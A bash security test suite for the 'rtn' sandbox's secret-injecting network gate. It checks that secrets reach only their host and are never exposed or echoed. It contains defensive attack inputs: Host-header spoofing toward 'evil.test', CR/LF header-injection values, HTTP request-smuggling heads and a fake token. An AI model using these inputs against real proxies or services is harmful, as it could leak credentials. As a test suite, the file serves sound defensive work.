#!/usr/bin/env bash
# --secret (docs/network.md, "Secrets"; docs/security-invariants.md, invariant 24): the gate
# adds the secret's header to requests for its host inside HTTPS it intercepts with the
# sandbox's own CA, and over plain HTTP only when the secret is written NAME@http://HOST,
# while commands see only a placeholder; and the attacks: plain http:// to the host without
# that is refused before a byte leaves, the secret never reaches another host (a Host header
# that names another host inside the tunnel, an absolute-form request for another host
# naming the secret's host in Host, a plain request to another host), an upstream
# certificate that is refused (wrong name, unknown CA) fails the request and is reported
# before the secret is sent, an SNI that differs and a tunnel that carries no TLS are
# refused, a request head some server would read otherwise than the gate (a bare LF, a
# second Host, a second request) is refused, the value is nowhere inside (the environment and command lines of every process,
# the files rtn puts there, the CA bundle, which carries no key), bad values fail before
# anything runs and no error of rtn exec or rtn serve echoes a token given by mistake, and
# rtn without --secret does not load OpenSSL.
#
# The servers (secret_servers.py: echo the request's head back, and log it) listen on
# addresses of the documentation range in a test network namespace, with names given to them
# by an /etc/hosts of a private mount namespace that rtn runs in; rtn verifies their
# certificates against the test's CA through SSL_CERT_FILE. Root makes the namespaces with
# unshare -nm, another user inside a user namespace of its own (unshare -rnm).
. "$(dirname "$0")/../lib.sh"
t_need_rtn

SERVERS=$T_ROOT/tests/security/secret_servers.py
VALUE=s3cr3t-$RANDOM-value
export SERVERS VALUE

# The test CAs and server certificates, made once for the suite (a python3 and six openssl
# each time) and copied into each case's directory, which the case may change (the suite's
# temp dir, tests/lib.sh).
CERTS=
if command -v python3 >/dev/null && command -v openssl >/dev/null && t_suite_tmp; then
        CERTS=$T_SUITE_TMP/certs
        mkdir "$CERTS" && python3 "$SERVERS" certs "$CERTS" || CERTS=
fi

need_netns() {
        command -v ip >/dev/null || t_skip "no ip(8) to set up the test network"
        command -v openssl >/dev/null || t_skip "no openssl(1) to make the test certificates"
        command -v curl >/dev/null || t_skip "no curl"
}

# Runs the script file $1 with bash in fresh network and mount namespaces: 203.0.113.1 serves
# secret.test (TLS on 443, its certificate from the test CA; plain HTTP on 80), also named
# evil.test and wrongname.test; 203.0.113.2 serves unknown.test (TLS, another CA) on 443.
# Requests are logged in $T_TMP/log1 and $T_TMP/log2. The three servers are one python3 (its
# start is most of what they cost). In the script, $RUN is rtn exec with
# the test CA trusted and TOK=$VALUE in its environment, and the servers' addresses, which
# are this machine's, allowed by the rules ADDR:PORT that admit them (docs/network.md).
in_test_netns() {
        [ -n "$CERTS" ] && cp "$CERTS"/* "$T_TMP" || t_fail "could not make the test certificates"
        printf '203.0.113.1 secret.test evil.test wrongname.test\n203.0.113.2 unknown.test\n' \
                >hosts
        # A user makes the namespaces inside a user namespace of its own, and runs rtn as
        # itself again in a nested one (with one id, as rtn cannot map a range there).
        local -a wrap=(unshare -n -m)
        AS_USER=
        if [ "$(id -u)" != 0 ]; then
                wrap=(unshare -rnm)
                AS_USER="unshare -U --map-user=$(id -u) --map-group=$(id -g) env RTN_NO_SUBID=1"
        fi
        export AS_USER
        t_cmd "${wrap[@]}" bash -c '
                ip link set lo up && ip addr add 203.0.113.1/32 dev lo &&
                        ip addr add 203.0.113.2/32 dev lo || exit 1
                mount --bind "$T_TMP/hosts" /etc/hosts || exit 1
                python3 "$SERVERS" --log "$T_TMP/log1" 203.0.113.1 443 \
                        "$T_TMP/secret.test.crt" "$T_TMP/secret.test.key" -- 203.0.113.1 80 -- \
                        --log "$T_TMP/log2" 203.0.113.2 443 \
                        "$T_TMP/unknown.test.crt" "$T_TMP/unknown.test.key" &
                for hp in 203.0.113.1/443 203.0.113.1/80 203.0.113.2/443; do
                        for _ in $(seq 100); do
                                (exec 3<>"/dev/tcp/$hp") 2>/dev/null && break
                                sleep 0.1
                        done
                done
                # The servers listen on addresses of this (test) machine: admitted as such
                OWN="--allow-net 203.0.113.1:443 --allow-net 203.0.113.1:80"
                OWN="$OWN --allow-net 203.0.113.2:443"
                RUN="$AS_USER env TOK=$VALUE SSL_CERT_FILE=$T_TMP/testca.crt $RTN exec $OWN"
                . "$0"
                kill %1' "$1"
}
export T_TMP

# rtn serve: a command of the session's sandbox gets the secret added; each sandbox has a CA
# of its own.
secret_serve() {
        need_netns
        cat >run.sh <<EOS
\$AS_USER env TOK=$VALUE SSL_CERT_FILE=$T_TMP/testca.crt RTN_DATA_DIR=$T_TMP/data \
        python3 $T_ROOT/tests/security/secret_serve.py "$RTN" --secret TOK@secret.test \
        --allow-net 203.0.113.1:443
EOS
        in_test_netns run.sh
        t_stdout_has "inside=rtn-placeholder-TOK"
        t_stdout_has "GET /serve HTTP/1.1"
        t_stdout_has "Authorization: Bearer $VALUE"
        t_stdout_has "ca-differs: True"
}

# The header arrives upstream with the real value over HTTPS, and over plain HTTP when the
# secret is written NAME@http://HOST, replacing the placeholder the command sent; inside, TOK
# is the placeholder.
secret_injected() {
        need_netns
        cat >run.sh <<'EOS'
$RUN --secret TOK@http://secret.test -- sh -c '
        echo "inside=$TOK"
        curl -sS https://secret.test/tls -H "Authorization: Bearer $TOK"
        curl -sS http://secret.test/plain'
EOS
        in_test_netns run.sh
        t_stdout_has "inside=rtn-placeholder-TOK"
        t_stdout_has "GET /tls HTTP/1.1"
        t_stdout_has "GET /plain HTTP/1.1"
        [ "$(grep -c "^Authorization: Bearer $VALUE\$" "$T_OUT_FILE")" = 2 ] ||
                t_fail "the secret did not arrive twice: $(cat "$T_OUT_FILE" "$T_ERR_FILE")"
        t_false grep -q "rtn-placeholder" "$T_TMP/log1"
}

# Over plain HTTP no server proves it is the host: without NAME@http://HOST the request is
# refused (403, reported, naming the option that allows it) and nothing reaches the server,
# in every spelling of the host, and while another secret of the host allows it.
secret_plain_http_refused() {
        need_netns
        cat >run.sh <<'EOS'
$RUN --secret TOK@secret.test -- sh -c '
        curl -sS http://secret.test/plain; echo
        curl -sS http://SECRET.test.:80/dot; echo'
OTHER=x $RUN --secret TOK@http://secret.test --secret OTHER@secret.test -- \
        curl -sS http://secret.test/two
EOS
        in_test_netns run.sh
        [ "$(grep -c "rtn gate refused: plain http:// to" "$T_OUT_FILE")" = 3 ] ||
                t_fail "plain http:// not refused 3 times: $(cat "$T_OUT_FILE" "$T_ERR_FILE")"
        t_stdout_has "(--secret NAME@http://HOST sends it unverified)"
        t_stderr_has "rtn: network denied secret.test:80: plain http:// to secret.test, which has a secret"
        [ ! -s "$T_TMP/log1" ] || t_fail "a request reached the server: $(cat "$T_TMP/log1")"
}

# The same refusal needs no server (it comes before the name is resolved): as every user.
secret_plain_http_any_user() {
        t_cmd env TOK="$VALUE" "$RTN" exec --secret TOK@secret.test -- \
                curl -sS http://secret.test/
        t_stdout_has "rtn gate refused: plain http:// to secret.test, which has a secret"
        t_stderr_has "rtn: network denied secret.test:80: plain http:// to secret.test"
        t_false grep -q "$VALUE" "$T_OUT_FILE" "$T_ERR_FILE"
}

# --secret-header names another header; a header of the sandbox's with that name is replaced.
secret_header_template() {
        need_netns
        cat >run.sh <<'EOS'
$RUN --secret TOK@secret.test --secret-header 'TOK=X-Api-Key: key={};' -- \
        curl -sS https://secret.test/ -H "x-api-key: $TOK"
EOS
        in_test_netns run.sh
        t_stdout_has "X-Api-Key: key=$VALUE;"
        [ "$(grep -ci "^x-api-key:" "$T_OUT_FILE")" = 1 ] || t_fail "two X-Api-Key headers"
        t_false grep -q "^Authorization" "$T_OUT_FILE"
}

# The secret goes to its host alone: a Host header naming another host inside the
# intercepted tunnel is refused (and reported), as is an absolute-form request for another
# host whose Host names the secret's; a request to another host keeps the placeholder.
secret_other_hosts() {
        need_netns
        cat >run.sh <<'EOS'
$RUN --secret TOK@secret.test --allow-net evil.test -- sh -c '
        curl -sS https://secret.test/ -H "Host: evil.test"; echo
        curl -sS http://evil.test/ -H "Host: secret.test"; echo
        curl -sS http://evil.test/other -H "Authorization: Bearer $TOK"'
EOS
        in_test_netns run.sh
        t_stdout_has "rtn gate refused: the Host header names evil.test, not secret.test"
        t_stdout_has "rtn gate refused: the Host header names secret.test, not evil.test"
        t_stdout_has "Authorization: Bearer rtn-placeholder-TOK"
        t_stderr_has "rtn: network denied secret.test:443: the Host header names evil.test"
        t_false grep -q "$VALUE" "$T_OUT_FILE" "$T_TMP/log1"
}

# An upstream certificate for another name, or from a CA the host does not trust: the
# request fails with the reason, it is reported, and no request reached the server.
secret_upstream_refused() {
        need_netns
        cat >run.sh <<'EOS'
$RUN --secret TOK@wrongname.test --secret TOK@unknown.test -- sh -c '
        curl -sS https://wrongname.test/; echo
        curl -sS https://unknown.test/'
EOS
        in_test_netns run.sh
        t_stdout_has "the certificate of wrongname.test is refused: hostname mismatch"
        t_stdout_has "the certificate of unknown.test is refused: unable to get local issuer"
        t_stderr_has "rtn: network denied wrongname.test:443: the certificate of wrongname.test"
        t_stderr_has "rtn: network denied unknown.test:443: the certificate of unknown.test"
        [ ! -s "$T_TMP/log1" ] && [ ! -s "$T_TMP/log2" ] ||
                t_fail "a request reached a refused server: $(cat "$T_TMP"/log*)"
}

# The tunnel to an intercepted host is held as any: the ClientHello's name must be the
# CONNECT host, and what is not TLS is closed; both reported.
secret_tunnel_checks() {
        need_netns
        cat >run.sh <<'EOS'
$RUN --secret TOK@secret.test -- python3 -c '
import os, socket, ssl
def tunnel():
    port = int(os.environ["https_proxy"].rsplit(":", 1)[1])
    s = socket.create_connection(("127.0.0.1", port))
    s.sendall(b"CONNECT secret.test:443 HTTP/1.1\r\nHost: secret.test:443\r\n\r\n")
    assert b" 200 " in s.recv(1000)
    return s
ctx = ssl.create_default_context()
ctx.check_hostname = False
ctx.verify_mode = ssl.CERT_NONE
try:
    ctx.wrap_socket(tunnel(), server_hostname="evil.test")
    print("sni: open")
except (ssl.SSLError, OSError) as e:
    print("sni: refused")
s = tunnel()
s.sendall(b"GET / HTTP/1.1\r\nHost: secret.test\r\n\r\n")
try:
    print("plain:", s.recv(1000) or "closed")
except OSError:
    print("plain: closed")'
EOS
        in_test_netns run.sh
        t_stdout_has "sni: refused"
        t_stdout_has "plain: closed"
        t_stderr_has "TLS server name evil.test differs from the CONNECT host secret.test"
        t_stderr_has "a CONNECT tunnel to secret.test carries TLS only"
        [ ! -s "$T_TMP/log1" ] || t_fail "a request reached the server: $(cat "$T_TMP/log1")"
}

# The heads some server reads otherwise than the gate (head_attacks.py: a bare LF or CR, an
# obs-fold, "Host :", two Hosts, a Host that is not the target's, Content-Length beside
# Transfer-Encoding, a second request on the connection after a good one or after a body) are
# refused with 400 and reported, over plain HTTP and inside an intercepted tunnel, and no
# server ever serves evil.test (invariant 26); of two good requests on one connection the
# first is answered and the second, checked, is not sent on (the connection ends).
head_attacks() {
        need_netns
        cat >run.sh <<EOS
\$RUN --allow-net secret.test --bind $T_ROOT/tests/security:/mnt/t:ro -- \
        python3 /mnt/t/head_attacks.py plain
\$RUN --secret TOK@secret.test --bind $T_ROOT/tests/security:/mnt/t:ro -- \
        python3 /mnt/t/head_attacks.py tunnel
EOS
        in_test_netns run.sh
        local c
        for c in bare_lf bare_lf_field bare_lf_only bare_cr obs_fold space_colon dup_host \
                host_differs cl_te; do
                [ "$(grep -c "^$c: 400 vhosts=\$" "$T_OUT_FILE")" = 2 ] ||
                        t_fail "$c was not refused twice: $(grep "^$c:" "$T_OUT_FILE") $(t_last)"
        done
        [ "$(grep -c "^second_request: 200,400 vhosts=secret.test\$" "$T_OUT_FILE")" = 2 ] ||
                t_fail "a second request: $(grep "^second_request" "$T_OUT_FILE")"
        [ "$(grep -c "^body_then_request: 200,400 vhosts=secret.test\$" "$T_OUT_FILE")" = 2 ] ||
                t_fail "a request after a body: $(grep "^body_then_request" "$T_OUT_FILE")"
        [ "$(grep -c "^two_good: 200 vhosts=secret.test\$" "$T_OUT_FILE")" = 2 ] ||
                t_fail "two good requests: $(grep "^two_good" "$T_OUT_FILE")"
        local p why
        for p in 80 443; do
                for why in "a line that does not end in CRLF (a bare LF)" "a bare CR inside a line" \
                        "a folded header line (obs-fold)" "whitespace before a header's colon" \
                        "two Host headers" "the Host header names evil.test, not secret.test" \
                        "both Content-Length and Transfer-Encoding"; do
                        t_stderr_has "rtn: network denied secret.test:$p: $why"
                done
        done
        t_false grep -q "evil.test" "$T_TMP/log1"
        [ "$(grep -c "^Authorization: Bearer $VALUE" "$T_TMP/log1")" = 3 ] ||
                t_fail "the secret did not go with the 3 first requests: $(cat "$T_TMP/log1")"
}

# Inside, the value is nowhere: not in any process's environment or command line, not in
# the files rtn puts there; the CA bundle holds certificates only (no key), the gate's CA
# last. Needs no network: runs as every user.
secret_never_inside() {
        printf '%s' "$VALUE" >needle
        t_cmd env TOK="$VALUE" "$RTN" exec --bind "$T_TMP/needle:/mnt/needle:ro" \
                --secret TOK@secret.test -- sh -c '
                cat /proc/[0-9]*/environ /proc/[0-9]*/cmdline 2>/dev/null | tr "\0" "\n"
                env; cat /run/rtn/*
                echo "certs=$(grep -c "BEGIN CERTIFICATE" /run/rtn/ca-certificates.crt)"
                echo "keys=$(grep -c "PRIVATE KEY" /run/rtn/ca-certificates.crt)"
                grep -rlsF -f /mnt/needle /run /etc /tmp /home /root /workspace /var |
                        sed "s/^/found: /"
                echo end'
        t_exit_is 0
        t_stdout_has "TOK=rtn-placeholder-TOK"
        t_stdout_has "SSL_CERT_FILE=/run/rtn/ca-certificates.crt"
        t_stdout_has "NODE_EXTRA_CA_CERTS=/run/rtn/ca-certificates.crt"
        t_stdout_has "keys=0"
        t_false grep -q "$VALUE" "$T_OUT_FILE"
        t_false grep -q "^certs=0" "$T_OUT_FILE"
        t_false grep -q "^found: " "$T_OUT_FILE"
}

# Bad values fail before anything runs, with a message that says why, and never echo the
# value.
secret_bad_values() {
        t_cmd env -u TOK "$RTN" exec --secret TOK@secret.test -- true
        t_exit_is 125
        t_stderr_has "--secret (secret #1, for secret.test): its NAME is not set in rtn's environment"
        t_cmd env TOK="$(printf 'a\r\nX-Evil: 1')" "$RTN" exec --secret TOK@secret.test -- true
        t_exit_is 125
        t_stderr_has "control character"
        t_false grep -q "X-Evil" "$T_ERR_FILE"
        t_cmd "$RTN" exec --secret "TOK@secret.test=$VALUE" -- true
        t_exit_is 125
        t_stderr_has "wants NAME@[http://]HOST"
        t_false grep -q "$VALUE" "$T_ERR_FILE"
        t_cmd env TOK=x "$RTN" exec --secret TOK@203.0.113.9 -- true
        t_exit_is 125
        t_stderr_has "is not a host name"
        t_cmd "$RTN" exec --secret-file TOK@secret.test="$T_TMP/none" -- true
        t_exit_is 125
        t_stderr_has "--secret-file (secret #1, for secret.test): open its FILE: No such file"
        t_cmd env TOK=x "$RTN" exec --secret TOK@secret.test --secret-header 'TOK=NoColon {}' \
                -- true
        t_exit_is 125
        t_stderr_has "the template is 'Header-Name: text'"
        t_cmd "$RTN" exec --secret-header 'TOK=X-Key: {}' -- true
        t_exit_is 125
        t_stderr_has "no --secret or --secret-file before it has its NAME"
        printf '%s\n' "$VALUE" >"$T_TMP/tok"
        t_cmd "$RTN" exec --secret-file TOK@secret.test="$T_TMP/tok" -- sh -c 'echo $TOK'
        t_exit_is 0
        t_stdout_is "rtn-placeholder-TOK"
}

# No spelling of a mistake echoes a secret: the value given where a NAME, HOST, FILE or
# TEMPLATE belongs, a value with '=', a bad host, an unset, empty or CR/LF-carrying variable,
# the same secret twice, a token as a rule of --allow-net or of a policy file. Each fails
# before anything runs, names the option's position, and the token appears in neither
# stdout nor stderr, of rtn exec and of rtn serve.
secret_never_echoed() {
        local tok=ghp_$RANDOM${RANDOM}Zq9xW2vB7nK4mT8rY1cL5dH3jF6sA0
        printf 'deb.debian.org\n%s@api.example.org\n' "$tok" >policy
        local -a cases=(
                "--secret GH_TOKEN=$tok@api.example.org"
                "--secret $tok@api.example.org"
                "--secret $tok"
                "--secret TOK@$tok"
                "--secret TOK@api.example.org=$tok"
                "--secret TOK@http://$tok"
                "--secret-file TOK@api.example.org=$tok"
                "--secret-file TOK@$tok=/dev/null"
                "--secret TOK@api.example.org --secret-header 'TOK=Authorization: Bearer $tok'"
                "--secret TOK@api.example.org --secret-header '$tok=X-Key: {}'"
                "--secret TOK@api.example.org --secret-header TOK:$tok"
                "--secret TOK@api.example.org --secret TOK@api.example.org"
                "--secret EMPTY@api.example.org"
                "--secret NL@api.example.org"
                "--secret CR@api.example.org"
                "--allow-net $tok@api.example.org"
                "--allow-net GH_TOKEN=$tok"
                "--net-policy policy"
        )
        local c verb nl=$tok$'\nX-Evil: 1' cr=$'a\r'$tok
        local -a args tail
        for c in "${cases[@]}"; do
                eval "args=($c)"
                for verb in exec serve; do
                        tail=()
                        [ "$verb" = serve ] || tail=(-- true)
                        t_cmd env TOK="$tok" EMPTY= NL="$nl" CR="$cr" \
                                "$RTN" "$verb" "${args[@]}" "${tail[@]}"
                        [ "$T_RC" != 0 ] || t_fail "rtn $verb $c: accepted"
                        [ -s "$T_ERR_FILE" ] || t_fail "rtn $verb $c: no message"
                        ! t_has "$T_OUT_FILE" "$tok" && ! t_has "$T_ERR_FILE" "$tok" ||
                                t_fail "rtn $verb $c echoed the token: $(cat "$T_ERR_FILE")"
                        ! t_has "$T_OUT_FILE" X-Evil && ! t_has "$T_ERR_FILE" X-Evil ||
                                t_fail "rtn $verb $c echoed a header: $(cat "$T_ERR_FILE")"
                done
        done
        t_cmd env TOK="$tok" "$RTN" exec --secret "GH_TOKEN=$tok@api.example.org" -- true
        t_stderr_has "rtn exec: --secret (secret #1) wants NAME@[http://]HOST"
        t_cmd env TOK="$tok" "$RTN" exec --secret "TOK@a.example.org" --secret "$tok@b.example.org" \
                -- true
        t_stderr_has "--secret (secret #2, for b.example.org): its NAME is not set"
        t_cmd "$RTN" exec --net-policy policy -- true
        t_stderr_has "policy:2: the rule has a character no host name"
}

# OpenSSL is loaded when a secret is configured, and not otherwise. rtn's maps are read once
# the command runs: its gate, and the gate's interception when there is one, are made by then,
# however slowly a loaded machine started the sandbox.
openssl_only_with_secret() {
        local cmd="sleep 300.$T_UNIQ"
        trap 'kill "$RUN" 2>/dev/null' EXIT
        "$RTN" exec --allow-net example.org -- $cmd &
        RUN=$!
        t_wait_for eval '[ -n "$(t_host_pids $cmd)" ]' || t_fail "the command never ran"
        t_false grep -q "libssl" "/proc/$RUN/maps"
        kill "$RUN"
        wait "$RUN"
        TOK=x "$RTN" exec --secret TOK@example.org -- $cmd &
        RUN=$!
        t_wait_for eval '[ -n "$(t_host_pids $cmd)" ]' || t_fail "the command never ran"
        t_true grep -q "libssl" "/proc/$RUN/maps"
        kill "$RUN"
        wait "$RUN"
        trap - EXIT
}

t_run secret_injected secret_injected
t_run secret_serve secret_serve
t_run secret_plain_http_refused secret_plain_http_refused
t_run secret_plain_http_any_user secret_plain_http_any_user
t_run secret_header_template secret_header_template
t_run secret_other_hosts secret_other_hosts
t_run secret_upstream_refused secret_upstream_refused
t_run secret_tunnel_checks secret_tunnel_checks
t_run head_attacks head_attacks
t_run secret_never_inside secret_never_inside
t_run secret_bad_values secret_bad_values
t_run secret_never_echoed secret_never_echoed
t_run openssl_only_with_secret openssl_only_with_secret
t_done
